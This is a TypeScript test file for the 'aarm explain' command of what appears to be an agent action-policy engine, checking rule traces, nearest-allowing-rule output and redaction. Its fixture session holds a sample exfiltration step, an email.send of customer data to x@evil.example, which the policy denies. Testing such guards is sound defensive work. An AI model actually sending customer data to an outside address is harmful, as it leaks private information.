/**
 * `aarm explain` in-process: the per-rule, per-condition trace with the values seen, the nearest allowing rule
 * for a DENY and a STEP_UP, redaction, JSON output, and usage errors.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { memoryIo } from "./io.js";
import { join } from "node:path";
import { aarmcProgram, aarmProgram, guarded } from "./main.js";
import { scratch } from "./test-support/run.js";
import { SHOP_POLICY, SHOP_TOOLS } from "./test-support/shop.js";

const lines = (...records: object[]) => records.map((r) => JSON.stringify(r)).join("\n");
const SESSION = lines(
  { type: "session", version: 1, id: "leak", identity: { human: "alice" }, request: "look up C-7" },
  { type: "action", id: "a1", tool: "crm.lookup", args: { customer: "C-7" } },
  { type: "result", output: { name: "Bob" } },
  { type: "action", id: "a2", tool: "email.send", args: { to: "x@evil.example", body: "the secret is Bob" } },
  { type: "action", id: "a3", tool: "payments.refund", args: { order: "9", amount: 900 } },
);
const TWO = `${SESSION}\n${lines({ type: "session", version: 1, id: "other", identity: {} }, { type: "action", tool: "crm.lookup", args: { customer: "C" } })}`;

let dir = "";
let cleanup = () => {};
beforeAll(() => {
  ({ dir, cleanup } = scratch({
    "policy.aarm": SHOP_POLICY,
    "never.aarm":
      'policy "never" version "1"\ndefault allow\ntools from "./tools.json"\n@id("no-refunds") forbid payments.refund because "no"\n',
    "tools.json": JSON.stringify(SHOP_TOOLS),
    "leak.jsonl": SESSION,
    "two.jsonl": TWO,
  }));
});
afterAll(() => cleanup());

async function explain(...args: string[]) {
  const io = memoryIo(dir);
  const status = await guarded(aarmProgram(), ["explain", ...args], io);
  return { status, stdout: io.stdout(), stderr: io.stderr() };
}

describe("aarm explain", () => {
  it("traces every rule and condition with the values seen, and finds the nearest rule that would have allowed a DENY", async () => {
    const r = await explain("policy.aarm", "leak.jsonl", "--action", "a2");
    expect(r.stderr).toBe("");
    expect(r.status).toBe(0);
    expect(r.stdout).toBe(
      [
        'session "leak", action 2 of 3: a2 email.send (line 4)',
        '  args {"to":"x@evil.example","body":"[REDACTED]"}',
        "",
        "decision: DENY (rules: pii-mail)",
        "  customer data stays inside",
        "",
        "rules for email.send, in the order they are considered:",
        "  priority 50",
        "    ✓ pii-mail (deny) → true  [DECIDED, line 6]",
        '        session.labels has PII and domain(args.to) != "corp.example" → true',
        "          session.labels has PII → true",
        "              session.labels = {PII}",
        '          domain(args.to) != "corp.example" → true',
        '              domain(args.to) = "evil.example"',
        "  priority 20 (not reached: a higher tier decided)",
        "    ✓ mask (modify) → true  [line 9]",
        '        args.body contains "secret" → true',
        '            args.body = "[REDACTED]"',
        "  priority 10 (not reached: a higher tier decided)",
        "    ✓ allow-all (allow) → true  [line 10]",
        "        (no condition: applies to every action of the tool)",
        "",
        "nearest rule that would have allowed it: mask (modify, priority 20, line 9)",
        "  what would have had to be different:",
        "    pii-mail (deny, priority 50) would have to not match:",
        "      session.labels has PII would have to be false (it was true)",
        "          session.labels = {PII}",
        "",
      ].join("\n"),
    );
  });

  it("explains a STEP_UP by its 1-based number, as JSON", async () => {
    const r = await explain("policy.aarm", "leak.jsonl", "--action", "3", "--format", "json");
    expect(r.status).toBe(0);
    const x = JSON.parse(r.stdout) as Record<string, unknown>;
    const mail = await explain("policy.aarm", "leak.jsonl", "--action", "a2", "--format", "json");
    expect(mail.stdout).toContain('"body": "[REDACTED]"');
    expect(mail.stdout).not.toContain("the secret is Bob");
    expect(x).toMatchObject({
      session: "leak",
      index: 3,
      decision: { effect: "STEP_UP", ruleIds: ["big-refund"] },
      rules: [
        {
          id: "big-refund",
          result: "true",
          decided: true,
          condition: {
            text: "args.amount > 500",
            value: "true",
            operands: [{ text: "args.amount", value: "900" }],
          },
        },
        { id: "allow-all", result: "true", reached: false },
      ],
      nearest: {
        rule: "allow-all",
        cost: 1,
        changes: [
          {
            id: "big-refund",
            mustMatch: false,
            atoms: [{ text: "args.amount > 500", want: false, was: "true" }],
          },
        ],
      },
    });
  });

  it("explains with an unsigned bundle (--dev): conditions printed from the IR, no source lines", async () => {
    const io = memoryIo(dir);
    expect(
      await guarded(aarmcProgram(), ["compile", join(dir, "policy.aarm"), "-o", join(dir, "bundle")], io),
    ).toBe(0);
    const r = await explain("bundle", "leak.jsonl", "--action", "a2", "--dev");
    expect(r.status).toBe(0);
    expect(r.stderr).toContain("WARNING: loading the UNSIGNED bundle of policy 'shop'");
    expect(r.stdout).toContain(
      [
        "    ✓ pii-mail (deny) → true  [DECIDED]",
        '        session.labels has "PII" and domain(args.to) != "corp.example" → true',
      ].join("\n"),
    );
    expect(r.stdout).toContain("nearest rule that would have allowed it: mask (modify, priority 20)\n");
  });

  it("says when nothing would have allowed the action", async () => {
    const r = await explain("never.aarm", "leak.jsonl", "--action", "a3");
    expect(r.stdout).toContain(
      "nothing would have allowed it: a rule without a condition stops it\n    no-refunds (forbid) would have to not match: it has no condition: it always applies\n",
    );
  });

  it.each([
    [["policy.aarm", "leak.jsonl"], "aarm explain: --action N|ID is required"],
    [["policy.aarm", "--action", "1"], "aarm explain: no session file given"],
    [
      ["policy.aarm", "leak.jsonl", "--action", "9"],
      "aarm explain: leak.jsonl: no action #9 in session 'leak' (it has 3 actions)",
    ],
    [
      ["policy.aarm", "leak.jsonl", "--action", "zz"],
      "no action 'zz' in session 'leak' (it has 3 actions: a1, a2, a3)",
    ],
    [
      ["policy.aarm", "two.jsonl", "--action", "1"],
      'two.jsonl holds 2 sessions; choose one with --session ID: "leak", "other"',
    ],
    [["policy.aarm", "two.jsonl", "--action", "1", "--session", "x"], 'two.jsonl: no session "x"'],
    [["policy.aarm", "nope.jsonl", "--action", "1"], "nope.jsonl: cannot read (ENOENT)"],
  ])("aarm explain %j exits 2", async (args, message) => {
    const r = await explain(...args);
    expect(r.stderr).toContain(message);
    expect(r.status).toBe(2);
  });
});
